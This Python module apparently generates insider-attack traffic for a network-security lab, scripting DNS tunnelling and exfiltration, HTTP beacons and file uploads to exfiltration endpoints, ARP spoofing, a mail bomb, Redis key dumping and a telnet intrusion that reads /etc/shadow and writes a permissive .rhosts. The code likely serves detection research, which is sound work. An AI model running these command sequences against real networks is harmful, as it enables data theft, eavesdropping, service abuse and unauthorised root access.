"""Attacks by who is already inside: hidden channels, theft, eavesdropping, abuse of services."""

from __future__ import annotations

import random

from lab.attacks.attack import Attack, Scripts, command
from lab.network import WIRE
from lab.scene import DOMAIN, N_MAILS, TUNNEL, WEAK_USER, Scene
from lab.script import Command, shell

TUNNEL_END = "100.64.7.1"
"""The far end's address within the tunnel (RFC 6598); it never appears on the wire."""

QUIET_CURL = ("curl", "-s", "-o", "/dev/null", "--max-time", "4")


def dns_tunnel(scene: Scene, _rng: random.Random) -> Scripts:
    """IP within DNS questions and answers, through the server that everybody asks."""
    kind, dns = "dns_tunnel", scene.address("dns1")
    far = ("iodined", "-f", "-c", "-P", "lab", f"{TUNNEL_END}/29", TUNNEL)
    near = ("iodine", "-f", "-r", "-I", "2", "-P", "lab", dns, TUNNEL)
    talk = ("ping", "-i", "0.2", "-c", "150", "-s", "300", TUNNEL_END)
    return {
        "dns_tunnel_end": [command(kind, *far)],
        kind: [command(kind, *near, at_s=2.0), command(kind, *talk, at_s=10.0)],
    }


def dns_exfiltration(scene: Scene, rng: random.Random) -> Scripts:
    """Data in the names that are asked for; nobody needs to answer."""
    kind, commands = "dns_exfiltration", []
    for i in range(40):
        names = [
            f"{rng.randbytes(28).hex()}.{rng.randbytes(24).hex()}.x.{DOMAIN}" for _ in range(4)
        ]
        questions = [word for name in names for word in (name, "TXT")]
        argv = ("dig", f"@{scene.address('dns1')}", "+tries=1", "+timeout=1", *questions)
        commands.append(command(kind, *argv, at_s=1.2 * i + rng.uniform(0, 0.4), timeout_s=5.0))
    return {kind: commands}


def beacon(scene: Scene, rng: random.Random) -> Scripts:
    """A short question to one server every second or so, for minutes."""
    kind, url = "beacon", f"http://{scene.address('beacon_end')}/api/?id="
    commands = []
    for i in range(130):
        at_s = 1.1 * (i + rng.uniform(-0.03, 0.03)) + 0.1
        asked = f"{url}{rng.getrandbits(48):x}"
        commands.append(command(kind, *QUIET_CURL, asked, at_s=at_s, timeout_s=5.0))
    return {kind: commands}


def exfiltration(scene: Scene, rng: random.Random) -> Scripts:
    """Large files go out, one after the other."""
    kind, url = "exfiltration", f"http://{scene.address('exfiltration_end')}/up/"
    commands = []
    for i in range(110):
        sent = ("-T", str(scene.upload(rng.choice((2, 3)))), f"{url}{rng.getrandbits(32):x}")
        commands.append(command(kind, *QUIET_CURL, *sent, at_s=0.4 * i, timeout_s=9.0))
    return {kind: commands}


def arp_spoof(scene: Scene, rng: random.Random) -> Scripts:
    """Stands between a victim and a server by lying about wire addresses, and reads along."""
    kind, victim, server = "arp_spoof", scene.address("arp_spoof_victim"), scene.address("web1")
    attacker = [command(kind, "sysctl", "-qw", "net.ipv4.ip_forward=1")]
    for told, about in ((victim, server), (server, victim)):
        attacker.append(command(kind, "arpspoof", "-i", WIRE, "-t", told, about, at_s=0.5))
    url = f"http://{server}/page{rng.randrange(10):02d}.html"
    read = [command(kind, *QUIET_CURL, url, at_s=2 + 0.35 * i, timeout_s=5.0) for i in range(120)]
    return {kind: attacker, "arp_spoof_victim": read}


def mail_bomb(scene: Scene, rng: random.Random) -> Scripts:
    """Mail upon mail to one mailbox."""
    server = f"smtp://{scene.address('mail1')}/pc.{DOMAIN}"
    sender = ("--mail-from", f"nobody@{DOMAIN}", "--mail-rcpt", f"ana@{DOMAIN}")
    commands = []
    for i in range(220):
        text = str(scene.message(rng.randrange(N_MAILS)))
        argv = ("curl", "-s", "--max-time", "6", server, *sender, "-T", text)
        commands.append(command("mail_bomb", *argv, at_s=0.08 * i, timeout_s=8.0))
    return {"mail_bomb": commands}


def redis_harvest(scene: Scene, rng: random.Random) -> Scripts:
    """Reads out a database that nobody has protected."""
    kind, base = "redis_harvest", ("redis-cli", "-h", scene.address("redis1"))
    asked = [("INFO", "keyspace"), ("CONFIG", "GET", "max*"), ("KEYS", "*"), ("CLIENT", "LIST")]
    asked += [(rng.choice(("DUMP", "TYPE", "OBJECT")), f"key{i}") for i in range(120)]
    return {kind: [command(kind, *base, *words, at_s=0.12 * i) for i, words in enumerate(asked)]}


def telnet_intruder(scene: Scene, rng: random.Random) -> Scripts:
    """Comes in by a weak password and tries to become root."""
    commands: list[Command] = []
    lines = ("su root", "x", "cat /etc/shadow", "su -", "y", "ls -la /root", "echo + + > .rhosts")
    for i in range(100):
        typed = rng.sample(lines, rng.randrange(3, 6))
        keys = "".join(f"sleep {rng.uniform(0.1, 0.3):.2f}; echo '{line}'; " for line in typed)
        text = (
            f'(sleep 0.4; echo "$1"; sleep 0.3; echo "$2"; sleep 0.2; {keys}echo exit; sleep 0.2)'
        )
        login = (WEAK_USER, scene.passwords[WEAK_USER], scene.address("telnet1"))
        argv = shell(text + ' | telnet "$3"', *login)
        commands.append(command("telnet_intruder", *argv, at_s=0.5 * i, timeout_s=8.0))
    return {"telnet_intruder": commands}


CHANNELS = (
    Attack(
        *(dns_tunnel, "iodine", 45, 6_000, "IP through DNS, by way of the server everybody asks"),
        helpers={"dns_tunnel_end": ""},
    ),
    Attack(dns_exfiltration, "dig", 55, 2_000, "data in names, 4 TXT questions every 1.2 s"),
    Attack(
        *(beacon, "curl", 155, 3_000, "a short question every 1.1 s, jitter 3 %"),
        helpers={"beacon_end": "web"},
    ),
    Attack(
        *(exfiltration, "curl", 60, 90_000, "110 uploads of 0.5 or 0.9 MB"),
        helpers={"exfiltration_end": "web"},
    ),
    Attack(
        *(arp_spoof, "arpspoof", 50, 20_000, "stands between a victim and a web server"),
        helpers={"arp_spoof_victim": ""},
    ),
    Attack(mail_bomb, "curl", 22, 20_000, "220 mails to one mailbox", n_parallel=6),
    Attack(redis_harvest, "redis-cli", 18, 3_000, "reads out an open database"),
    Attack(telnet_intruder, "telnet", 60, 20_000, "weak login, tries to become root", n_parallel=8),
)
